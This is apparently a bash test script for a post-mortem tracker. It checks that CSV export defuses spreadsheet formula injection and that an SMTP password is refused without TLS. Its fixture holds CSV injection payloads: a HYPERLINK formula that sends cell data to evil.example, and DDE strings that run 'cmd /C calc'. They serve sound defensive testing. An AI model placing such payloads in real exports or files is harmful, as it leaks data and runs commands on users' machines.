#!/usr/bin/env bash
# t0850 — injection: `list --format csv` neutralises cells a spreadsheet would run as formulas (they
# start with =, +, -, @, TAB or CR: OWASP CSV injection) with a leading single quote, and the file
# still parses as RFC 4180 with every other cell as it was; a password inside [smtp] url is refused
# without TLS (serve --check, remind, notify test), like password_file, without printing it.
. "$(dirname "$0")/lib.sh"
n=0
ok() { n=$((n + 1)); }

cat >"$TMP/pm.md" <<'EOM'
# Post-Mortem: Injection

**Incident ID:** INC-2026-03-01-001

## Action Items

| ID | Action | Owner | Due Date | Priority | Status |
|----|--------|-------|----------|----------|--------|
| 1 | =HYPERLINK("https://evil.example/?"&A1,"click") | @ann | 2026-03-10 | P1 | Open |
| 2 | +1+cmd\|' /C calc'!A0 | @ann | 2026-03-10 | P1 | Open |
| 3 | -2+3 | @ann | 2026-03-10 | P1 | Open |
| 4 | @SUM(1+1)*cmd\|' /C calc'!A0 | @ann | 2026-03-10 | P1 | Open |
| 5 | Plain text, with a comma and "quotes" | @ann | 2026-03-10 | P1 | Open |
| 6 | Uses = inside, not at the start | @ann | 2026-03-10 | P1 | Open |
EOM
t import "$TMP/pm.md" >/dev/null
t list --format csv >"$TMP/out.csv"
"$PY" - "$TMP/out.csv" <<'EOP' || fail "CSV injection"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
got = {r["key"]: r["action"] for r in rows}
want = {
    "1": "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "2": "'+1+cmd|' /C calc'!A0",
    "3": "'-2+3",
    "4": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "5": "Plain text, with a comma and \"quotes\"",
    "6": "Uses = inside, not at the start",
}
assert got == want, got
for r in rows:  # no cell of any column starts like a formula
    for k, v in r.items():
        assert not v or v[0] not in "=+-@\t\r", (k, v)
    assert r["due"] == "2026-03-10" and r["owner"] == "ann" and r["priority"] == "1", r
EOP
ok
# JSON keeps the text as it is (it is not read by spreadsheets).
t list --format json | "$PY" -c 'import json,sys; d=json.load(sys.stdin); assert d[0]["action"].startswith("=HYPERLINK"), d[0]' ||
	fail "json changed the action"
ok

# A password in [smtp] url: refused without TLS, everywhere the transport opens; never printed.
cat >"$TMP/pw.ini" <<'EOC'
[smtp]
url = smtp://bob:hunter2%40x@127.0.0.1:9
from = tracker@example.org
starttls = off
EOC
for how in "serve --check" "remind --dry-run" "notify test --email ann@example.org"; do
	# shellcheck disable=SC2086
	run "$TRACKER_BIN" --db "$DB" --config "$TMP/pw.ini" $how
	[[ $RC == 3 ]] || fail "$how with a password in the url and no TLS: exit $RC: $(cat "$TMP/out" "$TMP/err")"
	grep -qF "[smtp] url holds a password (user:password@host): refusing to send it without TLS" "$TMP/err" ||
		fail "$how: $(cat "$TMP/err")"
	! grep -q hunter2 "$TMP/out" "$TMP/err" || fail "$how printed the password"
	ok
done
# With TLS required, or without a password, the configuration is valid.
sed 's/starttls = off/starttls = required/' "$TMP/pw.ini" >"$TMP/tls.ini"
"$TRACKER_BIN" --db "$DB" --config "$TMP/tls.ini" serve --check >/dev/null || fail "TLS + url password refused"
sed 's|smtp://bob:hunter2%40x@|smtp://|' "$TMP/pw.ini" >"$TMP/nopw.ini"
"$TRACKER_BIN" --db "$DB" --config "$TMP/nopw.ini" serve --check >/dev/null || fail "no password refused"
ok
echo "$n passed, 0 failed"
